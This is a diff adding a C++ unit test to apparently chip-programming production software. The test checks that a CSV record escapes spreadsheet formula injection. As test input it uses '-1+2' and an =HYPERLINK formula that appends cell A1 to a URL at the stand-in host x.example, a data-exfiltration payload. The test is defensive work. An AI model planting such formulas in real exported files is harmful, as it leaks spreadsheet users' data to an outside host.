@@ -76,6 +76,26 @@ TEST_F(ProductionTest, ACycleCountsEachBoardOnceRecordsItAndTheCountsSurviveARes
     EXPECT_TRUE(again.band.failsText.empty());
 }
 
+// A chip name an adapter reports and a target name are text to a spreadsheet, never formulas;
+// the record's own numbers stay numbers.
+TEST_F(ProductionTest, FieldsThatWouldRunAsFormulasAreReadBackAsText) {
+    env_.WriteTrg({"-1+2"});  // the identity of QX16A064
+    env_.WriteIni(ini_ + "TRGNAME=-1+2\r\n");
+    const std::string link = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
+    bench_->chip(0).setChipName(link);
+    FakeDialogView view;
+    Run(view, [&](CQuorvelDlg&, DialogEvents& e) {
+        e.OnCommand(IDC_PLUG);
+        e.OnCommand(IDC_ERASE_MEMORY);
+    });
+    const auto rows = ReadCsvWithPython((env_.bin / "Quorvel-record.csv").string());
+    ASSERT_EQ(rows.size(), 4u);
+    EXPECT_EQ(rows[1][5] + " " + rows[1][6], "'-1+2 '" + link);
+    EXPECT_EQ(rows[2][6], bench_->chip(1).chipName()) << "a plain name stays as it was";
+    EXPECT_EQ(rows[1][3] + " " + rows[1][9], "1 0x0000");
+    EXPECT_EQ(rows[1][11].find_first_not_of("0123456789"), std::string::npos) << rows[1][11];
+}
+
 TEST_F(ProductionTest, WriteShowsItsBlocksWhileItRunsAndTheBandEmptiesWhenIdle) {
     env_.WriteIni(ini_);  // detail mode: Write, then its Verify
     FakeDialogView view;
